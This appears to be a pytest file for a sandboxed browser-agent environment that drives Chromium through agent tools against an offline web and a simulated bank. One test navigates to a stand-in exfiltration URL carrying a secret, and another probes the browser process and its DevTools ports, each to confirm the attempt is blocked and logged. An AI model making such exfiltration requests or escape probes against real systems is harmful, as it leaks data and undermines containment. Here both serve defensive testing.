"""The real Chromium in a real sandbox (the browser variant of the image), driven with Playwright over the DevTools
pipe bridged out of the container, through the BrowserGym-style tools of ``envs/tools/webagent.py``.

One sandbox and one browser for the module, routed to the bundled offline web (its search engine included) and the
bank of world 0. Skipped, saying why, when the browser image is not built (`airgap sandbox build --with browser`) or
Playwright is not installed (`pip install -e '.[browser]'`). Nothing is mocked.
"""
from __future__ import annotations

import re

import pytest

from airgap.sandbox import Sandbox, SandboxConfig


def _browser_image(base: str) -> str:
    pytest.importorskip("playwright.sync_api", reason="Playwright is not installed: pip install -e '.[browser]'")
    from airgap.sandbox.image import build_variant, variant_tag
    from airgap.sandbox.runtime import get_runtime

    tag = variant_tag("browser", base)
    if get_runtime().image_labels(tag) is None:
        pytest.skip(f"the browser image {tag} is not built: run `airgap sandbox build --with browser`")
    build_variant("browser", base_tag=base, log=lambda line: None)  # a second when up to date
    return tag


@pytest.fixture(scope="module")
def web(sandbox_image, default_snapshot):
    from airgap.corpus import default_routes
    from airgap.envs.backends import make_backends
    from airgap.envs.tools import ToolContext
    from airgap.envs.tools.webagent import PageBrowser
    from airgap.envs.world import world_facts
    from airgap.sandbox.browser import BrowserSession

    image = _browser_image(sandbox_image)
    bank = make_backends(["bank"], world_facts(0))["bank"]
    routes = {**default_routes(), **{h: bank.app for h in bank.hosts}}
    events: list[dict] = []
    config = SandboxConfig(image=image, memory="1g", pids=1024, nofile=4096)
    with Sandbox(config, routes=routes, sink=events.append) as sb:
        browser = PageBrowser(BrowserSession(sb))
        ctx = ToolContext(sandbox=sb, chromium=browser)
        try:
            yield ctx, events, bank
        finally:
            browser.close()


def call(ctx, name: str, **args) -> str:
    from airgap.envs.tools.webagent import BROWSER_TOOLS

    tool = BROWSER_TOOLS[name]
    assert tool.validate(args) == []
    return tool(ctx, args).text


def bid_of(obs: str, role: str, name_pattern: str) -> str:
    """The bid of the first node of ``role`` whose name matches ``name_pattern`` in an observation."""
    for line in obs.splitlines():
        m = re.match(rf"\s*\[(\w+)\] {role} '(.*)'", line)
        if m and re.search(name_pattern, m.group(2)):
            return m.group(1)
    raise AssertionError(f"no {role} matching {name_pattern!r} in:\n{obs[:3000]}")


def test_bank_page_with_token_ax_tree_link_click_and_screenshot(web, tmp_path):
    ctx, events, bank = web
    user = world_user(bank)
    host = bank.hosts[0]
    obs = call(ctx, "goto", url=f"https://{host}/?token={bank.token(user)}")
    assert obs.startswith(f"URL: https://{host}/")
    assert re.search(r"\[\w+\] heading '", obs), obs[:2000]
    link = bid_of(obs, "link", "Payees")
    after = call(ctx, "click", bid=link)
    assert "/payees" in after.splitlines()[0]
    assert any(e["type"] == "http" and e.get("host") == host and "/payees" in e.get("url", "") and e.get("status") == 200
               for e in events)
    png = ctx.chromium.screenshot()
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and len(png) > 2000
    (tmp_path / "bank-payees.png").write_bytes(png)


def world_user(bank) -> str:
    """A member of the organisation who holds a bank token in this world."""
    return next(c.username for c in bank.facts.credentials if "bank" in c.tokens)


def test_search_form_fill_and_submit(web, tmp_path):
    ctx, events, _ = web
    obs = call(ctx, "goto", url="https://search.airgap/")
    box = bid_of(obs, "(?:searchbox|textbox|combobox)", ".*")
    call(ctx, "fill", bid=box, value="sqlite limits")
    results = call(ctx, "press", bid=box, key_comb="Enter")
    first = results.splitlines()[0]
    assert first.startswith("URL: https://search.airgap/") and "sqlite" in first.lower(), first
    assert any(e["type"] == "http" and e.get("host") == "search.airgap" and "sqlite" in e.get("url", "").lower()
               for e in events)
    assert re.search(r"\[\w+\] link '", results)
    (tmp_path / "search-results.png").write_bytes(ctx.chromium.screenshot())
    back = call(ctx, "go_back")
    assert back.splitlines()[0].rstrip("/") == "URL: https://search.airgap"


def test_tabs_scroll_and_message(web):
    ctx, _, _ = web
    call(ctx, "goto", url="https://docs.python.org/3.11/")
    obs = call(ctx, "new_tab")
    assert "[1]* " in obs
    obs = call(ctx, "tab_focus", index=0)
    assert "[0]* " in obs and "docs.python.org" in obs.splitlines()[0]
    assert "URL: https://docs.python.org" in call(ctx, "scroll", delta_x=0, delta_y=600)
    call(ctx, "tab_focus", index=1)
    assert "[1]" not in call(ctx, "tab_close")
    assert call(ctx, "send_msg_to_user", text="done") == "message sent" and ctx.chromium.messages == ["done"]


def test_unknown_bid_is_an_error_the_agent_can_fix(web):
    from airgap.envs.tools import ToolError

    ctx, _, _ = web
    call(ctx, "goto", url="https://search.airgap/")
    with pytest.raises(ToolError, match="no element"):
        call(ctx, "click", bid="99999")


def test_outside_navigation_refused_and_logged(web):
    from airgap.envs.tools import ToolError

    ctx, events, _ = web
    with pytest.raises(ToolError, match="ERR_"):
        call(ctx, "goto", url="https://exfil.example/collect?secret=1")
    assert any(e["type"] == "egress_attempt" and e.get("host") == "exfil.example" for e in events)
    assert not any(e["type"] == "http" and e.get("host") == "exfil.example" and e.get("status") == 200 for e in events)


def test_agent_cannot_reach_or_signal_the_browser(web):
    ctx, _, _ = web
    sb = ctx.sandbox
    # The browser runs as its own uid, with no listening socket: the agent finds nothing to connect to, cannot read
    # the browser's file descriptors (its pipe) and cannot signal it.
    procs = sb.exec("ps -eo uid=,pid=,comm= | awk '$3 ~ /chromium/ {print $1, $2}'").stdout.split()
    assert procs and procs[0] == "1500", procs
    pid = procs[1]
    r = sb.exec(f"ls -l /proc/{pid}/fd 2>&1; kill -0 {pid} 2>&1; echo rc=$?")
    assert "Permission denied" in r.stdout or "Operation not permitted" in r.stdout, r.stdout
    assert "rc=1" in r.stdout
    listening = sb.exec("cat /proc/net/tcp /proc/net/tcp6 | awk '$4 == \"0A\" {print $2}'").stdout.split()
    ports = sorted({int(x.rsplit(":", 1)[1], 16) for x in listening})
    assert all(p in (1, 53, 80, 443) for p in ports), ports  # the init's listeners only; no DevTools port
    probe = sb.exec("python3 -c \"import socket,sys\n"
                    "for p in (9222, 9229):\n"
                    "    s=socket.socket(); s.settimeout(1)\n"
                    "    print(p, s.connect_ex(('127.0.0.1', p)))\"")
    assert all(line.split()[1] != "0" for line in probe.stdout.splitlines()), probe.stdout
    assert ctx.chromium.page.url  # the browser still answers the harness


def test_browser_env_dict_observations_and_screenshot_blobs(sandbox_image, default_snapshot, tmp_path):
    """airgap/Browser-v0 over the webqa suite: browser tools only, Dict observations (text + screenshot array), each
    step's PNG in the episode log as a blob; the text env's space is unchanged."""
    import gymnasium as gym
    import numpy as np

    import airgap.envs  # noqa: F401 - registers the env ids
    from airgap.envs.logs import read_log, verify
    from airgap.envs.spaces import UnicodeText

    _browser_image(sandbox_image)
    env = gym.make("airgap/Browser-v0", suite="webqa", log_dir=str(tmp_path / "logs"), sandbox="fresh")
    try:
        obs, info = env.reset(seed=0)
        assert env.observation_space.contains(obs)
        assert {t["function"]["name"] for t in info["tools"]} >= {"goto", "click", "fill", "press", "submit"}
        assert "search" not in {t["function"]["name"] for t in info["tools"]}
        obs, *_ = env.step({"tool": "goto", "args": {"url": "https://search.airgap/"}})
        assert obs["text"].startswith("URL: https://search.airgap/")
        assert obs["screenshot"].shape == (900, 1280, 3) and obs["screenshot"].dtype == np.uint8
        assert obs["screenshot"].std() > 0  # a rendered page, not an empty frame
        obs, _, terminated, _, _ = env.step({"tool": "submit", "args": {"answer": "x"}})
        assert terminated
        path = env.unwrapped.log_path
    finally:
        env.close()
    assert verify(path).ok
    _, raw = read_log(path, resolve=False)
    shots = [e for e in raw if e.get("type") == "browser.screenshot"]
    assert len(shots) == 2 and all("$blob" in e["png"] for e in shots)  # reset's and goto's; submit takes none
    _, events = read_log(path)
    pngs = [e["png"] for e in events if e.get("type") == "browser.screenshot"]
    assert all(p[:8] == b"\x89PNG\r\n\x1a\n" for p in pngs)
    (tmp_path / "env-step.png").write_bytes(pngs[-1])
    assert isinstance(gym.make("airgap/WebQA-v0").observation_space, UnicodeText)
